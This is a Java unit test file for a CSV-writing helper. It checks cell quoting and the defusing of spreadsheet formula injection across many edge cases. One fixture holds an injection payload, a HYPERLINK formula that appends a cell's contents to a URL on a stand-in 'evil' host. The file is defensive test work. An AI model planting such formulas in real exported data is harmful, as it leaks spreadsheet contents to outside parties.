package io.bedloe.platform.files;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvLineTest {

  @Test
  void onlyCellsThatNeedItAreQuoted() {
    assertThat(CsvLine.of(List.of("plain", "a,b", "say \"hi\"", "two\nlines", "", " "), ','))
        .isEqualTo("plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",, ");
    assertThat(CsvLine.of(List.of("a,b", "c;d"), ';')).isEqualTo("a,b;\"c;d\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        " =1+1",
        "  @SUM(A1)",
        "\u00a0=1",
        "\ufeff=1",
        "＝1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\tplain",
        "\rplain",
        "\nplain"
      })
  void whatASpreadsheetWouldCalculateIsMadeText(String text) {
    assertThat(CsvLine.notAFormula(text)).isEqualTo("'" + text);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "Doe;=HYPERLINK(\"http://evil/?\"&A1) | Doe;'=HYPERLINK(\"http://evil/?\"&A1)",
        "Doe; \u00a0+1 | Doe; \u00a0'+1",
        "Doe\t@SUM(A1) | Doe\t'@SUM(A1)",
        "Doe;\t-1 | Doe;\t'-1",
        "Doe;\"=1\" | Doe;\"'=1\"",
        "Doe;＝1 | Doe;'＝1",
        "Doe;;-1;+2 | Doe;;'-1;'+2",
        "`Doe\r\n=1` | `Doe\r\n'=1`",
        "`\t=1` | `'\t'=1`",
        "-1;-2 | '-1;'-2"
      })
  void aFormulaThatWouldBeginAnotherCellIsMadeText(String text, String safe) {
    assertThat(CsvLine.notAFormula(text)).isEqualTo(safe);
  }

  @Test
  void aCellWithACharacterAtWhichSomeSpreadsheetSplitsIsQuoted() {
    assertThat(CsvLine.of(List.of("a;b", "a\tb", "a b"), ',')).isEqualTo("\"a;b\",\"a\tb\",a b");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a; b",
        "a;b=c",
        "a, -b",
        "a\nb - c",
        "",
        "O'Brien",
        "Müller",
        "株式会社",
        "1-2",
        " plain",
        " "
      })
  void otherTextStaysAsItIs(String text) {
    assertThat(CsvLine.notAFormula(text)).isEqualTo(text);
  }
}
